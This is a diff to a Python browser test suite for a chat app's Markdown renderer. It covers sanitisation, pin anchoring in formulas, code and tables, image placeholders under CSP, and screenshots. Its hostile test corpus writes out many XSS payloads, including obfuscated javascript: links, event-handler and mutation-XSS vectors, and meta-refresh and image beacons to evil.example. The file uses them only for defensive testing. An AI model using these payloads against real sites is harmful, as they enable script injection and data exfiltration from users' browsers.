@@ -1,6 +1,9 @@
 """Rendered Markdown in the page: a streamed answer with a table, code and math grows block by block; a hostile
-corpus runs nothing and fetches nothing; a pin made across bold text anchors the right source range; no CSP
-violation; screenshots (light, dark, phone width) in test-artifacts/.
+corpus (raw HTML, `javascript:` links in every spelling, entity tricks, nested brackets, images, autolinks, a broken
+fence) runs nothing and fetches nothing; a pin made across bold text anchors the right source range, one made
+inside a formula anchors the whole formula and highlights its `<math>`, pins in highlighted code and across table
+cells mark the right text; an image loads only when its placeholder is clicked; no CSP violation; screenshots
+(1440 px light and dark, 390 px) with two overlapping pins in test-artifacts/md-*.png.
 
 Answers with given Markdown come from the fake upstream's `text=<urlsafe base64>` directive.
 """
@@ -9,6 +12,9 @@ from __future__ import annotations
 
 import asyncio
 import base64
+import json
+import struct
+import zlib
 
 import pytest
 
@@ -23,6 +29,7 @@ from tests.browser.helpers import (
     send,
     wait_answer,
 )
+from tests.server_process import free_port
 
 pytestmark = pytest.mark.asyncio(loop_scope="session")
 
@@ -65,11 +72,51 @@ Links: [one](javascript:window.__pwned=3) [two](JaVaScRiPt:alert(1)) [three](jav
 
 ![leak](https://evil.example/collect?q=secret) ![x](javascript:alert(1))
 
+More: [six](jav&#9;ascript:alert(1)) [seven](java
+script:alert(1)) [eight](&#106;avascript:alert(1)) [nine](javascript&colon;alert(1)) [ten](vbscript:msgbox(1))
+[eleven](//evil.example/x) [twelve](/relative) [thirteen](file:///etc/passwd) [fourteen](<javascript:alert(1)>)
+[fifteen](%6Aavascript:alert(1)) [sixteen](https://example.com/t "title\" onclick=alert(1)")
+<javascript:alert(1)> <JAVASCRIPT:alert(1)> <data:text/html,<script>alert(1)</script>>
+[seventeen][ref] [[nested [deep [brackets]]]](javascript:alert(1)) www.example.com/www
+
+[ref]: javascript:window.__pwned=7
+
+Entities: &#x3C;script&#x3E;window.__pwned=8&#x3C;/script&#x3E; &amp;lt;b&amp;gt; &NotAnEntity; &#x6A;avascript:x
+
+![p](//evil.example/p.png) ![d](data:image/svg+xml,<svg/onload=alert(1)>)
+[![inner](https://evil.example/i.png)](https://example.com/wrapped) ![r][img]
+
+[img]: https://evil.example/ref.png
+
+Math: $\\href{javascript:alert(1)}{x}$ and $\\text{<img src=x onerror=alert(1)>}$
+
+<details open ontoggle="window.__pwned=9"><summary>s</summary></details><form action="https://evil.example/"></form>
+<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
+<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=10"></style></mtext></math>
+
 <svg onload="window.__pwned=5"><style>body{display:none}</style>
 
 ```html
 <script>window.__pwned = 6</script>
 """
+
+HOSTILE_VISIBLE = (
+    "<script>window.__pwned = 1</script>", '<img src=x onerror="window.__pwned = 2">', "<b onmouseover=alert(1)>",
+    "[one](javascript:window.__pwned=3)", "three", "[four](data:text/html",
+    '<a href="https://evil.example/" onclick="window.__pwned=4">raw</a>', "nested [brackets]",
+    "![x](javascript:alert(1))", '<svg onload="window.__pwned=5">', "<script>window.__pwned = 6</script>",
+    "six [seven](java\nscript:alert(1)) [eight](javascript:alert(1)) [nine](javascript:alert(1))",
+    "[ten](vbscript:msgbox(1))", "eleven twelve [thirteen](file:///etc/passwd) [fourteen](<javascript:alert(1)>)",
+    "<javascript:alert(1)> <JAVASCRIPT:alert(1)> <data:text/html,<script>alert(1)</script>>",
+    "[seventeen][ref] [[nested [deep [brackets]]]](javascript:alert(1))", "[ref]: javascript:window.__pwned=7",
+    "Entities: <script>window.__pwned=8</script> &lt;b&gt; &NotAnEntity; javascript:x",
+    "[image: p] ![d](data:image/svg+xml,<svg/onload=alert(1)>)",
+    '<details open ontoggle="window.__pwned=9"><summary>s</summary></details>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=10"></style></mtext></math>',
+)
+HOSTILE_HREFS = {"https://example.com/ok", "https://example.com/auto", "https://example.com/t",
+                 "http://www.example.com/www", "https://example.com/wrapped"}
 
 
 def reply(text: str, chunk: int = 4, delay_ms: int = 0) -> str:
@@ -163,8 +210,12 @@ async def test_hostile_markdown_runs_nothing_and_fetches_nothing(browser, app_se
         shown = await page.evaluate(f"""() => {{
             const b = {body(tid)};
             const all = [...document.querySelectorAll('.messages *')];
+            const banned = ['SCRIPT', 'IMG', 'IFRAME', 'STYLE', 'svg', 'DETAILS', 'FORM', 'META', 'LINK', 'BASE',
+                            'OBJECT', 'EMBED', 'mglyph', 'style', 'MTEXT'];
             return {{text: b.textContent,
-                     bad: all.filter(e => ['SCRIPT', 'IMG', 'IFRAME', 'STYLE', 'svg'].includes(e.tagName)).length,
+                     bad: all.filter(e => banned.includes(e.tagName)).map(e => e.tagName),
+                     hrefHolders: [...document.querySelectorAll('.messages [href]')].map(e => e.tagName),
+                     math: [...b.querySelectorAll('math')].map(m => m.textContent),
                      handlers: all.flatMap(e => [...e.attributes].map(a => a.name)).filter(n => n.startsWith('on')),
                      hrefs: [...b.querySelectorAll('a')].map(a => [a.getAttribute('href'), a.rel, a.target]),
                      unsafe: b.querySelectorAll('.unsafe-link').length,
@@ -172,18 +223,16 @@ async def test_hostile_markdown_runs_nothing_and_fetches_nothing(browser, app_se
                      pwned: window.__pwned === undefined ? null : window.__pwned}};
         }}""")
         assert shown["pwned"] is None and dialogs == []
-        assert shown["bad"] == 0 and shown["handlers"] == []
+        assert shown["bad"] == [] and shown["handlers"] == []
+        assert set(shown["hrefHolders"]) == {"A"}  # no MathML `href`, no <base>/<link>
         for href, rel, target in shown["hrefs"]:
-            assert href.startswith("https://") and rel == "noopener noreferrer" and target == "_blank", href
-        assert {h[0] for h in shown["hrefs"]} == {"https://example.com/ok", "https://example.com/auto"}
-        assert shown["unsafe"] >= 1  # a link markdown-it accepts but we do not: its text, no href
-        assert shown["placeholder"] and "evil.example" in shown["placeholder"][0]
+            assert href.startswith(("https://", "http://")) and rel == "noopener noreferrer" and target == "_blank"
+        assert {h[0] for h in shown["hrefs"]} == HOSTILE_HREFS
+        assert shown["unsafe"] >= 5  # links markdown-it accepts but we do not: their text, no href
+        assert len(shown["placeholder"]) == 3 and all("evil.example" in p for p in shown["placeholder"])
+        assert shown["math"] == ["x", "<img\xa0src=x\xa0onerror=alert(1)>"]
         text = shown["text"]
-        for visible in ("<script>window.__pwned = 1</script>", '<img src=x onerror="window.__pwned = 2">',
-                        "<b onmouseover=alert(1)>", "[one](javascript:window.__pwned=3)", "three", "[four](data:text/html",
-                        '<a href="https://evil.example/" onclick="window.__pwned=4">raw</a>', "nested [brackets]",
-                        "![x](javascript:alert(1))", '<svg onload="window.__pwned=5">',
-                        "<script>window.__pwned = 6</script>"):
+        for visible in HOSTILE_VISIBLE:
             assert visible in text, visible
         assert "evil.example" not in "".join(u for u in requests if not u.startswith(app_server.url))
         assert all(u.startswith(app_server.url) or u.startswith("data:") for u in requests), \
@@ -233,23 +282,215 @@ async def test_pin_across_bold_anchors_the_source_range(browser, app_server):
         await page.context.close()
 
 
-@pytest.mark.parametrize("name, options", [
-    ("dark", {"color_scheme": "dark"}),
-    ("phone", {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}),
-])
-async def test_screenshots(browser, app_server, name, options):
-    page = await new_page(browser, **options)
+# --- pins in math, code and tables; screenshots with overlapping pins ---------------------------------------------
+
+SHOWCASE = """## Benchmark notes
+
+The run was **very fast** and the energy $E = mc^2$ held throughout.
+
+> Measured on a *quiet* machine; the numbers are medians of five runs.
+
+| Model | Prompt tokens | Completion tokens | Wall time | Cost (USD) | Notes |
+|:------|-------------:|------------------:|:---------:|-----------:|:------|
+| small | 1200 | 380 | 3.1 s | 0.0004 | fine for drafts and short summaries |
+| large | 4800 | 1210 | 9.4 s | 0.0121 | better at long-range reasoning |
+
+```python
+def total(items, factor=2):
+    # add them up, scaled; a long line follows, to see it scroll inside its own box and not the page
+    return sum(x * factor for x in items if x is not None and x >= 0 and isinstance(x, (int, float)))
+```
+
+$$\\int_0^1 x^2 \\, dx = \\frac{1}{3}$$
+
+- [x] measured
+- [ ] written up
+- [ ] reviewed
+"""
+
+
+async def select_span(page, tid: int, start: tuple, end: tuple) -> None:
+    """Select in the thread's last answer as a drag would, from `start` to `end`, each `(css, needle, delta)`: in the
+    first element matching `css` inside the answer, the first Text node containing `needle`, at its index + delta."""
+    ok = await page.evaluate(f"""([start, end]) => {{
+        const b = {body(tid)};
+        const point = ([css, needle, delta]) => {{
+            const root = css ? b.querySelector(css) : b;
+            if (!root) return null;
+            const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
+            for (let n = walker.nextNode(); n; n = walker.nextNode()) {{
+                const at = n.data.indexOf(needle);
+                if (at >= 0) return [n, at + delta];
+            }}
+            return null;
+        }};
+        const s = point(start), e = point(end);
+        if (!s || !e) return false;
+        const range = document.createRange();
+        range.setStart(s[0], s[1]);
+        range.setEnd(e[0], e[1]);
+        getSelection().removeAllRanges();
+        getSelection().addRange(range);
+        const r = range.getBoundingClientRect();
+        b.dispatchEvent(new MouseEvent('mouseup', {{bubbles: true, clientX: r.right, clientY: r.bottom}}));
+        return true;
+    }}""", [list(start), list(end)])
+    assert ok, (start, end)
+
+
+async def pin_span(page, app_server, tid: int, start: tuple, end: tuple) -> tuple[int, int, int]:
+    """Select from `start` to `end` (see select_span), press the pin button; (pin id, anchor start, anchor end)."""
+    before = set(await page.eval_on_selector_all(PINS, "els => els.map(e => e.dataset.threadId)"))
+    await select_span(page, tid, start, end)
+    await page.locator("[data-testid=pin]").click()
+    await page.wait_for_function("(n) => document.querySelectorAll('section.panel-pin').length > n", arg=len(before))
+    (new,) = set(await page.eval_on_selector_all(PINS, "els => els.map(e => e.dataset.threadId)")) - before
+    detail = app_server.get(f"/api/threads/{new}")
+    anchor = detail.get("thread", detail)["anchor"]
+    return int(new), anchor["start"], anchor["end"]
+
+
+async def marked(page, tid: int, pin_id: int) -> dict:
+    """What the answer shows for a pin: its marks' texts, whether they sit in math / code spans / cells."""
+    return await page.evaluate(f"""(pin) => {{
+        const marks = [...{body(tid)}.querySelectorAll(`mark.pin-anchor[data-pin-id='${{pin}}']`)];
+        return {{texts: marks.map(m => m.textContent),
+                 math: marks.filter(m => m.classList.contains('pin-math') && m.firstElementChild
+                                         && m.firstElementChild.localName === 'math').length,
+                 inSpans: marks.filter(m => m.parentElement.closest('pre code span')).length,
+                 cells: marks.map(m => m.closest('td, th') ? m.closest('td, th').cellIndex : null),
+                 overlap: marks.filter(m => m.classList.contains('pin-overlap')).length}};
+    }}""", pin_id)
+
+
+async def test_pins_in_math_code_and_table_cells(app_page, app_server):
+    page = app_page
+    tid = await new_thread(page)
+    await send(page, tid, "Showcase " + reply(SHOWCASE, chunk=60))
+    await wait_answer(page, tid, "complete")
+    src = SHOWCASE
+    # half of an inline formula (from its `m` to its `c`): the pin anchors the whole `$E = mc^2$`
+    pin, s, e = await pin_span(page, app_server, tid, ("span.math-inline math", "m", 0), ("span.math-inline math", "c", 1))
+    assert src[s:e] == "$E = mc^2$"
+    got = await marked(page, tid, pin)
+    assert got["math"] == 1 and got["texts"] == ["E=mc2"], got
+    # the formula is a way into its pin, as text marks are
+    assert await page.evaluate(f"""() => !!{body(tid)}.querySelector('span.math-inline mi').closest(
+        "mark.pin-anchor[data-pin-id='{pin}']")""")
+    # from plain text into the formula: up to the formula's end
+    pin2, s, e = await pin_span(page, app_server, tid, ("p", "held", 0), ("div.math-block math", "x", 1))
+    assert src[s:e].startswith("held throughout.") and src[s:e].endswith("$$\\int_0^1 x^2 \\, dx = \\frac{1}{3}$$")
+    assert (await marked(page, tid, pin2))["math"] == 1
+    # across Pygments token spans in a code block
+    pin3, s, e = await pin_span(page, app_server, tid, ("pre", "total", 0), ("pre", "factor", 6))
+    assert src[s:e] == "total(items, factor"
+    got = await marked(page, tid, pin3)
+    assert "".join(got["texts"]) == "total(items, factor" and got["inSpans"] >= 2, got
+    # across table cells: each cell marks its own text, the `|` between them is no text
+    pin4, s, e = await pin_span(page, app_server, tid, ("tbody", "small", 2), ("tbody", "380", 2))
+    assert src[s:e] == "all | 1200 | 38"
+    got = await marked(page, tid, pin4)
+    assert got["texts"] == ["all", "1200", "38"] and got["cells"] == [0, 1, 2], got
+    assert page.problems == []
+
+
+def _png(width: int = 4, height: int = 3) -> bytes:
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+    rows = b"".join(b"\x00" + b"\xd0\x30\x30" * width for _ in range(height))
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
+            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))
+
+
+async def test_image_placeholder_loads_only_on_click(browser, app_server):
+    image = f"{app_server.url}/md-test-chart.png"  # same origin (CSP img-src 'self'), answered by the route below
+    blocked = f"http://127.0.0.1:{free_port()}/elsewhere.png"  # plain http on another origin: CSP blocks it
+    page = await new_page(browser)
+    requests, finished, failed = [], [], {}
+    page.on("request", lambda r: requests.append(r.url))
+    page.on("requestfinished", lambda r: finished.append(r.url))
+    page.on("requestfailed", lambda r: failed.setdefault(r.url, r.failure))
+    await page.route(image, lambda route: route.fulfill(status=200, content_type="image/png", body=_png()))
     try:
         await boot(page, app_server)
         tid = await new_thread(page)
-        await send(page, tid, "Report " + reply(RICH, chunk=40))
+        await send(page, tid, "Chart " + reply(f"The chart: ![sales chart]({image})\n\nAnd ![other one]({blocked})\n"))
         await wait_answer(page, tid, "complete")
-        await page.wait_for_timeout(200)
-        await page.screenshot(path=str(ARTIFACTS / f"markdown-{name}.png"))
-        width = await page.evaluate("() => [document.documentElement.scrollWidth, window.innerWidth]")
-        if name == "phone":
-            assert width[0] <= width[1] + 1, f"the page scrolls sideways at phone width: {width}"
+        await page.wait_for_timeout(300)
+        assert image not in requests and blocked not in requests  # nothing fetched before the click
+        placeholder = panel(page, tid).locator("button.img-placeholder").first
+        assert await placeholder.inner_text() == "Image from 127.0.0.1 — click to load"
+        await placeholder.click()
+        img = panel(page, tid).locator("img.md-image").first
+        await img.wait_for()
+        await page.wait_for_function(
+            "(src) => { const i = document.querySelector(`img.md-image[src='${src}']`);"
+            " return i && i.complete && i.naturalWidth > 0; }", arg=image)
+        assert requests.count(image) == 1
+        attrs = await img.evaluate("i => [i.getAttribute('src'), i.alt, i.getAttribute('referrerpolicy'),"
+                                   " i.referrerPolicy, i.naturalWidth, i.naturalHeight]")
+        assert attrs == [image, "sales chart", "no-referrer", "no-referrer", 4, 3]
+        assert await panel(page, tid).locator("button.img-placeholder").count() == 1
+        # the other origin: the click asks, CSP refuses, nothing leaves the page
+        await panel(page, tid).locator("button.img-placeholder").click()
+        await page.wait_for_function("() => window.__csp.length > 0")
+        csp = await page.evaluate("() => window.__csp")
+        assert csp == [f"img-src {blocked}"], csp
+        other = panel(page, tid).locator("img.md-image").nth(1)
+        assert await other.evaluate("i => [i.alt, i.complete, i.naturalWidth]") == ["other one", True, 0]
+        # Chromium reports the attempt, refused before the network: it never finished, it failed on the CSP
+        assert blocked not in finished and failed.get(blocked) == "csp", failed
+        assert requests.count(image) == 1 and finished.count(image) == 1
+        assert page.problems == []
+    finally:
+        await page.context.close()
+
+
+async def test_screenshots_with_overlapping_pins(browser, app_server):
+    """The showcase answer, streamed, with two overlapping pins (one across bold text, one from bold into math):
+    1440 px light, 1440 px dark, 390 px; wide tables and code scroll inside their box, never the page."""
+    page = await new_page(browser)
+    try:
+        await boot(page, app_server)
+        tid = await new_thread(page)
+        await send(page, tid, "Showcase " + reply(SHOWCASE, chunk=8, delay_ms=5))
+        await wait_answer(page, tid, "complete")
+        bold, s1, e1 = await pin_span(page, app_server, tid, ("p", "run", 0), ("strong", "very", 4))
+        assert SHOWCASE[s1:e1] == "run was **very"
+        math, s2, e2 = await pin_span(page, app_server, tid, ("strong", "very", 2), ("span.math-inline math", "m", 0))
+        assert SHOWCASE[s2:e2] == "ry fast** and the energy $E = mc^2$"
+        one, two = await marked(page, tid, bold), await marked(page, tid, math)
+        # "ry" is under both: marked once, darker (pin-overlap), and it opens the shorter pin
+        assert one["texts"] == ["run was ", "ve", "ry"] and one["overlap"] == 1, one
+        assert two["texts"][0] == " fast" and two["math"] == 1 and two["overlap"] == 0, two
+        await page.evaluate("() => getSelection().removeAllRanges()")
+        await panel(page, tid).locator(".msg[data-role=assistant]").last.scroll_into_view_if_needed()
+        shots = {}
+        for name, scheme, viewport in (("light", "light", VIEWPORT), ("dark", "dark", VIEWPORT),
+                                       ("phone", "light", {"width": 390, "height": 844})):
+            await page.emulate_media(color_scheme=scheme)
+            await page.set_viewport_size(viewport)
+            await page.wait_for_timeout(150)
+            await page.screenshot(path=str(ARTIFACTS / f"md-{name}.png"))
+            await page.evaluate(f"() => {body(tid)}.querySelector('ul').scrollIntoView({{block: 'end'}})")
+            await page.screenshot(path=str(ARTIFACTS / f"md-{name}-end.png"))
+            await page.evaluate(f"() => {body(tid)}.scrollIntoView({{block: 'start'}})")
+            shots[name] = await page.evaluate(f"""() => {{
+                const b = {body(tid)};
+                const box = (e) => [e.scrollWidth, e.clientWidth];
+                return {{page: [document.documentElement.scrollWidth, window.innerWidth],
+                         table: box(b.querySelector('table')), pre: box(b.querySelector('pre')),
+                         body: box(b), math: b.querySelector('div.math-block math').getBoundingClientRect().height,
+                         text: parseFloat(getComputedStyle(b).fontSize)}};
+            }}""")
+        phone = shots["phone"]
+        assert phone["page"][0] <= phone["page"][1] + 1, f"the page scrolls sideways at 390 px: {phone}"
+        assert phone["table"][0] > phone["table"][1] and phone["pre"][0] > phone["pre"][1], phone  # own scrollbars
+        assert phone["body"][0] <= phone["body"][1] + 1, phone
+        for name, got in shots.items():
+            assert got["text"] * 1.5 < got["math"] < got["text"] * 6, (name, got)  # display math: readable size
         assert await page.evaluate("() => window.__csp") == []
         assert page.problems == []
+        print(json.dumps(shots))
     finally:
         await page.context.close()
